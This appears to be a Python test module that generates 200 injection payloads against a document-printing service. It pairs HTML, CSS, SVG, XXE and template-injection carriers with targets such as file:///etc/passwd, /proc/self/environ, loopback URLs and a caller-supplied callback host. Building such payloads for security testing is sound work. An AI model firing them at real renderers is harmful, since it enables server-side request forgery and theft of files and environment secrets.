"""Two hundred texts that try to make the printer fetch, read or run something."""

from collections.abc import Iterator

# What a reader of HTML, CSS, SVG or PDF could follow.
TARGETS = (
    "{where}/{n}",
    "{bare}/{n}",
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "ftp://127.0.0.1/{n}",
    "javascript:alert({n})",
    "data:text/html,<script src={where}/{n}></script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{where}/{n}'/></svg>",
)
CARRIERS = (
    "<img src='{target}'>",
    "<img src=x srcset='{target} 2x' onerror=fetch('{target}')>",
    "<script src='{target}'></script>",
    "<link rel=stylesheet href='{target}'>",
    "<link rel=attachment href='{target}'>",
    "<a rel=attachment href='{target}'>bijlage</a>",
    "<style>@import url('{target}');</style>",
    "<style>@font-face{{font-family:Kompas;src:url('{target}')}}</style>",
    "<style>p{{background:url('{target}')}}</style>",
    "<p style=\"background-image:url('{target}')\">",
    "<svg><image href='{target}'/></svg>",
    "<svg><use xlink:href='{target}#a'/></svg>",
    "<svg><style>*{{fill:url('{target}')}}</style></svg>",
    "<object data='{target}'></object>",
    "<embed src='{target}'>",
    "<iframe src='{target}'></iframe>",
    "<video poster='{target}' src='{target}'></video>",
    "<base href='{target}'>",
    "<meta http-equiv=refresh content='0;url={target}'>",
    '\'"></td></table><img src="{target}">',
    "</title></head><body><img src='{target}'>",
    "</textarea>--><img src='{target}'>",
    "<?xml-stylesheet href='{target}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{target}'>]>&e;",
    "{{{{ self.__init__.__globals__ }}}} {{% include '{target}' %}}",
)


def payloads(where: str) -> Iterator[str]:
    """Every carrier with every target: 200 different texts."""
    number = 0
    for carrier in CARRIERS:
        for target in TARGETS:
            number += 1
            bare = where.removeprefix("http:")
            yield carrier.format(target=target.format(where=where, bare=bare, n=number))
